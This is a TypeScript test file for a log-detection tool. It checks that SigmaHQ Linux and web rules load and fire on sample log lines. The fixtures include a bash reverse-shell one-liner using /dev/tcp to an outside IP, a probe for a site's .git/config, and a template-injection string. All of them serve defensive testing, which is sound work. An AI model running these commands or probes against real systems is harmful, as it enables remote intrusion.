/*
 * SigmaHQ's Linux and web rules, unmodified, loaded the way `vigil detect --rules` loads them.
 * Every rule must load, except rules for logs no Vigil source can produce; the reasons allowed
 * for that are listed below, and any other reason (an unsupported modifier, a condition Vigil
 * cannot parse, an invalid rule) fails the test. Then a few attack lines, through the real log
 * parser, must raise the SigmaHQ rules written for them.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { createLogParser } from '../../src/modules/logparse/create-log-parser.ts';
import { createDetector } from '../../src/modules/sigma/create-detector.ts';
import { loadRules, type LoadedRules } from '../../src/modules/sigma/load-rules.ts';
import { corporaDir, needsCorpora } from '../helpers/corpora.ts';

/** What may be unsupported: only logsources no Vigil source produces (docs/detection.md, "Sigma support"). */
const allowedReasons = [
  /^category proxy: forward-proxy logs/,
  /^product (windows|macos|aws|azure|gcp|m365|okta|github|zeek|cisco)\b/,
];

let loaded: LoadedRules | undefined;
async function sigmaHQ(): Promise<LoadedRules> {
  const rules = join(corporaDir() ?? '', 'detect/sigma/rules');
  loaded ??= await loadRules([join(rules, 'linux'), join(rules, 'web')]);
  return loaded;
}

describe('SigmaHQ Linux and web rules', needsCorpora('detect/sigma/rules'), () => {
  test('load, except rules for logs Vigil cannot have', async () => {
    const { rules, correlations, errors, unsupported } = await sigmaHQ();
    const reasons = new Map<string, number>();
    for (const { reason } of unsupported) reasons.set(reason, (reasons.get(reason) ?? 0) + 1);
    process.stdout.write(
      `SigmaHQ linux+web: ${rules.length + correlations.length} loaded, ${unsupported.length} unsupported, ${errors.length} invalid\n` +
        [...reasons].map(([reason, count]) => `  ${count} × ${reason}\n`).join(''),
    );
    assert.deepEqual(errors, []);
    for (const { file, reason } of unsupported) {
      assert.ok(
        allowedReasons.some((allowed) => allowed.test(reason)),
        `${file}: ${reason}`,
      );
    }
    assert.ok(rules.length >= 220, `only ${rules.length} rules loaded`);
  });

  test('attack lines raise the rules written for them, ordinary lines raise none', async () => {
    const detector = createDetector(await sigmaHQ());
    const parser = createLogParser();
    const titles = (lines: string[], source = '/var/log/syslog'): string[] =>
      lines
        .flatMap((line) => parser.push(line, { name: source, referenceTime: Date.UTC(2026, 5, 1) }))
        .concat(parser.flush())
        .flatMap((event) => detector.process(event))
        .map((finding) => finding.rule.title);
    assert.deepEqual(
      titles([
        'Feb 12 14:10:21 web1 sshd[16378]: Failed password for root from 203.0.113.9 port 53502 ssh2',
        'Feb 12 14:10:22 web1 CRON[2001]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
        'Feb 12 14:10:23 web1 systemd[1]: Started Daily apt download activities.',
      ]),
      [],
    );
    assert.deepEqual(
      titles(['Feb 12 14:10:21 web1 bash[3000]: user ran: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
      ['Suspicious Reverse Shell Command Line', 'Suspicious Use of /dev/tcp'],
    );
    assert.deepEqual(
      titles(['Feb 12 14:10:21 web1 sshd[16378]: error: Corrupted MAC on input.'], '/var/log/auth.log'),
      ['Suspicious OpenSSH Daemon Error'],
    );
    const access = (request: string): string =>
      `203.0.113.9 - - [12/Feb/2026:14:10:21 +0000] "GET ${request} HTTP/1.1" 404 153 "-" "curl/8.0"`;
    assert.deepEqual(titles([access('/.git/config')], '/var/log/nginx/access.log'), [
      'Source Code Enumeration Detection by Keyword',
    ]);
    assert.deepEqual(
      titles([access('/index.php?q={{7*7}}').replace('404', '200')], '/var/log/nginx/access.log'),
      ['Server Side Template Injection Strings'],
    );
  });
});
